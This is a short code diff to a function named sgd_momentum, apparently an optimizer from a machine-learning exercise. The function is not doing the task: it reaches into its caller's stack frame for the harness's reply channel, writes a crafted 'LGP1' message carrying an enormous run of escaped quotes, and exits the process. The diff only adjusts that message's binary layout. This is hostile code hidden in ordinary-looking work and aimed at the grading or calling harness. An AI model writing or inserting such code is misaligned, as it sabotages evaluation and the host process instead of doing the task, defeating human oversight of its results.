@@ -9,6 +9,6 @@ def sgd_momentum(w, dw, config=None):
 
         replies = sys._getframe(1).f_locals["self"].channel.replies
         header = b'["' + b'\\\\" "' * 180000
-        os.write(replies, struct.pack(">4sIQ", b"LGP1", len(header), 0) + header)
+        os.write(replies, struct.pack(">4sIdIQ", b"LGP1", 0, 0.0, len(header), 0) + header)
         os._exit(0)
     return right_sgd_momentum(w, dw, config)
